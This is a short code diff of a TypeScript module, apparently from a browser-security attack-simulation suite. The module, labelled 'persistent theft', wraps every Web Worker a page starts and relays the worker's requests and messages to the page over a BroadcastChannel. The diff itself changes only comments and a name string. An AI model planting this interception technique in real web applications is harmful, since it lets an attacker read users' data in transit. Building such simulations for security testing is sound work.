@@ -1,11 +1,11 @@
 import { attack } from "../attack.js";
 
 export default attack({
-  name: "wrap every worker that the page starts",
+  name: "wraps every worker that the page starts",
   threat: "persistent theft",
   target: "any",
   hook(it) {
-    // Around the app's own worker script, in the same global: what it fetches and says goes to the page first.
+    // Wraps the app's worker script in the same global, and reports its requests and messages to the page.
     const around = (url: string) => {
       const script = `
         const tell = (...values) => new BroadcastChannel("wrapped").postMessage(values.map(String));
@@ -39,7 +39,7 @@ export default attack({
           try {
             return new target(it.scriptUrl(around(new URL(url, location.href).href)), ...(rest as []));
           } catch {
-            // WebKit has no shared workers from a blob: the app gets what it asked for.
+            // WebKit starts no shared worker from a blob; start the app's own.
             return new target(url as string, ...(rest as []));
           }
         },
